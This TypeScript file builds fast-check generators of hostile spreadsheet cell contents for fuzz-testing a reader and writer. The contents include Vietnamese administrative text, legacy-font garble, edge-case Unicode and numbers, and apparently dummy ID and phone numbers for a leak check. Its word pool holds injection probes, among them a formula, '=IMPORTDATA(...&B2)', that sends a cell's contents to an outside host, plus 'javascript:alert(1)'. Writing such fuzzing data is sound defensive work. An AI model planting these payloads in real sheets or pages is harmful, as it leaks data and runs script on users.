// What careless and hostile hands put into cells: texts of all planes of Unicode and of other worlds, lengths up to a cell's own limit,
// numbers near every limit, cells of every type, and what must never leave. Random tests of readers, writers and whole entry points draw from
// here; a scale makes one kind of text at any length, so that growth can be measured.
import fc from 'fast-check';
import type { Cell } from '../src/core/cell.ts';

/** Characters a cell of Google's holds. */
export const LONGEST_CELL = 50_000;

/** Strings that, repeated, are dear to a careless reader: each the seed of one scale. */
const DEAR_PIECES: readonly string[] = [
  ...['.', ' ', ';', '-', '\n', ' \n', '. ', ';\n', '"', '(', ')', '<', '&', '/', '|', '_', '=', '•', '\u00A0', '\t'],
  ...[
    'a',
    'ư',
    'đ',
    'Ð',
    'aa ',
    'a-',
    'a,',
    'y',
    '1',
    '1 ',
    '1a-',
    '1,',
    '01/',
    '0. ',
    '0_',
    '0912 ',
    '12:',
    '1.',
    '٠',
  ],
  ...[
    '\u0301',
    '\u0301\u0323',
    'a\u0323\u0301',
    '\u200B',
    '\u00AD',
    '\uFEFF',
    '\u202E',
    '\uFFFF',
    '\uD800',
    '\u{1F600}',
  ],
  ...[
    'MẬT ',
    'BẢO ',
    'độ mật: ',
    'CMND ',
    'http://',
    'www.',
    '://',
    '+84',
    '••',
    '_x0041_',
    '§Ò ',
    'Höôùng ',
    'Æ°á»›ng ',
    '- Đã;',
  ],
  ...[
    'Quý I ',
    'tháng 5/',
    'năm 2024, ',
    '31/12/2024;',
    'trước ngày ',
    'Công an xã, ',
    'UBND ',
    'tham mưu ',
    'a@b.vn, ',
  ],
];

/** One kind of text at any length; `length` in UTF-16 units, half a character at the end where it does not fit. */
function scaled(piece: string, length: number): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

/** Kinds of text whose cost must grow no faster than their length. */
export const SCALES: readonly { readonly name: string; readonly of: (length: number) => string }[] = [
  ...DEAR_PIECES.map((piece) => ({ name: JSON.stringify(piece), of: (length: number) => scaled(piece, length) })),
  { name: 'signs, then a letter', of: (length) => `${scaled('. ', length - 1)}a` },
  { name: 'a letter, then marks out of order', of: (length) => `a${scaled('\u0345\u0301\u0323\u0334', length - 1)}` },
  { name: 'open brackets, then closed ones', of: (length) => scaled('(', length / 2) + scaled(')', length / 2) },
  { name: 'digits parted by turns', of: (length) => scaled('0 9-1.2/3·', length) },
];

/** Any character of any plane, half characters and noncharacters among them. */
const anyUnit = fc.oneof(
  fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
  fc.integer({ min: 0x10000, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
);

/** What stands in people's cells: each line of a text is made of these. */
const words = fc.constantFrom(
  ...[
    'Đã ban hành Kế hoạch số 12/KH-UBND ngày 28/02/2024',
    'đạt 85,5%',
    'hồ sơ 000.00.12.H56-240115-0001',
    '1.500.000 đồng',
  ],
  ...[
    'Ðã',
    'ðề nghị',
    'Ⅱ',
    'Không có khó khăn, vướng mắc.',
    '=IMPORTDATA("http://x.vn/"&B2)',
    '=HYPERLINK("x";"y")',
    '+1',
    "'",
    '@',
  ],
  ...[
    '\uF0B7',
    '\uF0A7',
    '\uF0FC',
    '- Đã',
    '; - Đề',
    '+ ',
    '* ',
    '•',
    '…',
    '«',
    '»',
    '<b>',
    '</td>',
    '<!--',
    ']]>',
    '&amp;',
    '&#0;',
  ],
  ...[
    '_x0041_',
    '_x000D_',
    '\r\n',
    '\r',
    '\u2028',
    '\u0085',
    '\v',
    '\f',
    '\u0000',
    '\u0007',
    '\u001B',
    '\uFFFE',
    '\uFFFF',
    '\u{1FFFE}',
  ],
  ...[
    '\u200B',
    '\u00AD',
    '\uFEFF',
    '\u202E',
    '\u2066',
    '\u200D',
    '\u0301',
    '\u0323',
    '\uD83D',
    '\uDE00',
    '\u{1F468}\u200D\u{1F469}',
  ],
  ...['ﷺ', 'שלום', 'عربى', '漢字', '١٢٣', '𝟎𝟗', '½', '㎏', 'ﬁ', 'ǅ', 'İ', 'ß', 'K', 'Å', '\u1100\u1161'],
  ...[
    'https://drive.google.com/file/d/1aB0977777777xYz0380/view',
    'javascript:alert(1)',
    'mailto:a@b.vn',
    'a..b@x.vn',
    '__proto__',
  ],
  ...[
    'MẬT',
    '(tối mật)',
    'Kỳ 05/2024',
    '31/02/2024',
    '1/1/1900',
    'TRUE',
    '#REF!',
    '#N/A',
    '1e309',
    'NaN',
    '0x10',
    '-0',
    '007',
  ],
);

/** Words typed under fonts of other code pages, and what they say. */
export const OLD_FONT_WORDS: readonly (readonly [font: 'TCVN3' | 'VNI', typed: string, says: string])[] = [
  ['TCVN3', '§Ò nghÞ bæ sung kinh phÝ', 'Đề nghị bổ sung kinh phí'],
  ['TCVN3', '§· hoµn thµnh viÖc cËp nhËt d÷ liÖu d©n c­', 'Đã hoàn thành việc cập nhật dữ liệu dân cư'],
  ['TCVN3', 'Uû ban nh©n d©n x· ®· triÓn khai kÕ ho¹ch', 'Uỷ ban nhân dân xã đã triển khai kế hoạch'],
  ['VNI', 'Höôùng daãn ngöôøi daân', 'Hướng dẫn người dân'],
  ['VNI', 'Ñeà nghò boå sung kinh phí', 'Đề nghị bổ sung kinh phí'],
  ['VNI', 'Ñaõ hoaøn thaønh vieäc caäp nhaät döõ lieäu daân cö', 'Đã hoàn thành việc cập nhật dữ liệu dân cư'],
];

/** Numbers that must not leave, bare; a text may hold them in any grouping. */
export const PERSONAL_NUMBERS = [
  '038204001234',
  '079301123456',
  '0912345678',
  '0387654321',
  '02373123456',
  '84912345678',
] as const;

const SEPARATORS = [
  '',
  ' ',
  '-',
  '.',
  '/',
  '\u2010',
  '\u2011',
  '\u2013',
  '\u2212',
  '\u00A0',
  '\n',
  '_',
  '·',
  '*',
  ':',
  ' - ',
  '. ',
];
const DIGITS_OF = ['0', '\uFF10', '\u0660', '\u0966', '\u{1D7CE}'];

/** A number of a person as people write one: any grouping, any sign between, digits of any script. */
export const writtenNumber: fc.Arbitrary<{ readonly number: string; readonly written: string }> = fc
  .record({
    number: fc.constantFrom(...PERSONAL_NUMBERS),
    sign: fc.constantFrom(...SEPARATORS),
    // «84…» without its plus is one only where it is grouped as a number to call.
    sizes: fc.array(fc.integer({ min: 1, max: 6 }), { minLength: 12, maxLength: 12 }),
    zero: fc.constantFrom(...DIGITS_OF),
  })
  .map(({ number, sign, sizes, zero }) => {
    const base = zero.codePointAt(0) ?? 0;
    const parts: string[] = [];
    const groups = number.startsWith('84') ? [2, 3, 3, 3] : sizes;
    for (let from = 0, i = 0; from < number.length; i += 1) {
      const to = from + (groups[i] ?? 1);
      parts.push([...number.slice(from, to)].map((digit) => String.fromCodePoint(base + Number(digit))).join(''));
      from = to;
    }
    return { number, written: parts.join(number.startsWith('84') && sign === '' ? ' ' : sign) };
  });

const oldFont = fc.constantFrom(...OLD_FONT_WORDS).map(([, typed]) => typed);
const piece = fc.oneof(
  { weight: 6, arbitrary: words },
  { weight: 2, arbitrary: anyUnit },
  { weight: 2, arbitrary: oldFont },
  // Behind «kinh phí» a number in groups of three is money.
  {
    weight: 1,
    arbitrary: writtenNumber.map(
      ({ number, written }) => `${number.startsWith('84') ? ' hoặc gọi số máy' : ''} ${written} `,
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

/** A text of a few hundred characters at most. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.tuple(piece, fc.constantFrom('', ' ', ' ', '; ', '\n', '\n- ')), { maxLength: 14 })
  .map((pieces) => pieces.flat().join(''));

/** A text of any length up to that of a cell, or to a shorter one. */
function textUpTo(longest: number): fc.Arbitrary<string> {
  const lengths = [1_000, 4_999, 5_001, 20_000, LONGEST_CELL - 1].filter((length) => length <= longest);
  return fc
    .tuple(hostileText, fc.constantFrom(...SCALES), fc.constantFrom(...lengths, longest), hostileText)
    .map(([before, { of }, length, after]) => (before + of(length) + after).slice(0, longest));
}

export const longText: fc.Arbitrary<string> = textUpTo(LONGEST_CELL);

/** Numbers as cells hold them: dates, shares, times, money, identity numbers, and those at the edges. */
const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    ...[
      0, -0, -1, 0.5, 0.005, 1, 1.0000001, 72, 100, 1990, 20240515, 45000, 45427.041666666664, 2958465, 2958466,
      2_147_483_648,
    ],
    ...[
      38204001234,
      912345678,
      84912345678,
      172345678,
      1e9,
      1e15,
      2 ** 53,
      1e21,
      1e-7,
      5e-324,
      1.7976931348623157e308,
      -1e308,
    ],
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** A cell of any type, its texts no longer than that. */
export function cellUpTo(longest: number): fc.Arbitrary<Cell> {
  return fc.oneof(
    { weight: 6, arbitrary: hostileText.map((text) => text.slice(0, longest)) },
    { weight: 2, arbitrary: hostileNumber },
    { weight: 1, arbitrary: fc.constantFrom<Cell>(null, '', true, false) },
    { weight: 1, arbitrary: textUpTo(longest) },
  );
}

/** A cell of any type. */
export const hostileCell: fc.Arbitrary<Cell> = cellUpTo(LONGEST_CELL);
